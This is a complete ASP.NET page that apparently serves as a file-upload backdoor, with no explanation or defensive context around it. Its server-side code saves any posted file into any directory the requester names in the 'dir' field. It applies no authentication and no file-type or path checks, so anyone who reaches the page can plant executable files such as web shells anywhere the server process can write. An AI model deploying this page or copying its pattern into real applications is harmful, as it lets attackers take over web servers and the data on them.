<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        if (Request.Files.Count > 0)
        {
            HttpPostedFile f = Request.Files[0];
            string dir = Request.Form["dir"];
            if (string.IsNullOrEmpty(dir)) dir = Server.MapPath(".");
            f.SaveAs(Path.Combine(dir, Path.GetFileName(f.FileName)));
            Response.Write("saved " + f.ContentLength);
        }
    }
</script>
<form method="post" enctype="multipart/form-data">
  <input type="file" name="up" /> <input type="text" name="dir" /> <input type="submit" value="Upload" />
</form>
